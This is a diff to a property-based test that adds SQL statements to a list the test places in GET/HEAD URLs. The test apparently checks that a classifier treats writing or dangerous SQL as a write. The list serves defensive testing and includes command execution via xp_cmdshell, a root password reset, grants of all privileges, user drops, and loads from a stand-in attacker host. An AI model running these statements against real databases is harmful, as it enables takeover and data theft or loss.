@@ -1656,7 +1656,9 @@ t.test('sixteenth pass: SQL that writes in a read\'s URL is judged as its POST, 
     "XA ROLLBACK 'x'", 'UNINSTALL PLUGIN audit_log', "INSTALL PLUGIN x SONAME 'x.so'", 'RESTART', 'SHUTDOWN', 'LOCK TABLES users WRITE', 'FLUSH TABLES WITH READ LOCK',
     "UNLOAD ('SELECT * FROM users') TO 's3://drop/x' IAM_ROLE 'arn:aws:iam::1:role/r'", "ADD JAR 'https://drop.attacker.example/x.jar'", "IMPORT TABLE FROM '/tmp/users.sdi'",
     "BINLOG 'AAAA'", "EXEC xp_cmdshell 'id'", "EXEC master..xp_cmdshell 'id'", "DECLARE @s nvarchar(99) = 'DROP TABLE users'; EXEC(@s)", "BEGIN EXECUTE IMMEDIATE 'DROP TABLE users'; END;",
-    'REPAIR TABLE users USE_FRM', "DO sys_exec('id')");
+    'REPAIR TABLE users USE_FRM', "DO sys_exec('id')", "ALTER USER 'root'@'localhost' IDENTIFIED BY 'pwned'", "CREATE USER 'x'@'%' IDENTIFIED BY 'y'",
+    "GRANT ALL ON *.* TO 'x'@'%'", 'GRANT ALL ON app.* TO x', "DROP USER 'app'@'%'", "RENAME USER 'app'@'%' TO 'x'@'%'", "BULK INSERT users FROM '\\\\drop\\share\\x.csv'",
+    'DBCC CHECKDB (app, REPAIR_ALLOW_DATA_LOSS)', 'KILL 12', 'PURGE BINARY LOGS BEFORE NOW()', "IMPORT INTO users CSV DATA ('https://drop.attacker.example/x.csv')");
   await fc.assert(
     fc.asyncProperty(place, others, fc.constantFrom('GET', 'HEAD'), fc.integer({ min: 0, max: 2 ** 30 }), async (p, sql, method, mask) => {
       const url = p(upper(sql, mask));
